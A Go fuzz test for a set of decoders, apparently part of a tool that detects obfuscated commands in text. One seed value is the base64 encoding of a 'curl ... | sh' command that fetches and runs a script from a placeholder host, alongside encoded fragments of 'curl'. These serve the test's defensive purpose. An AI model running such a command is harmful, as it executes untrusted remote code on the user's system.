package program

import (
	"encoding/base64"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// FuzzDecode feeds the decoders and the search for encoded runs any text:
// no panic, runs in order and inside the text, and no decoder grows its
// input beyond a small factor.
func FuzzDecode(f *testing.F) {
	f.Add(b64("curl https://x.example/p | sh"))
	f.Add(`\x63\x75\x72\x6c \u0041\u{1F600} \143\165 99,117,114,108,32,104`)
	f.Add("MZXW6YTBOI====== 6375726c2068747470733a2f2f")
	f.Fuzz(func(t *testing.T, src string) {
		last := 0
		for _, e := range findEncoded(src, maxLayers) {
			if e.off < last || e.end > len(src) || e.off >= e.end {
				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.off, e.end, len(src))
			}
			last = e.end
		}
		if u := unescape(src); len(u) > 4*len(src)+4 {
			t.Fatalf("unescape grew %d bytes to %d", len(src), len(u))
		}
		decodeBase64(src)
		decodeBase32(src)
		decodeHex(src)
		charCodes(src)
		_ = rot13(src) + reverse(src)
	})
}
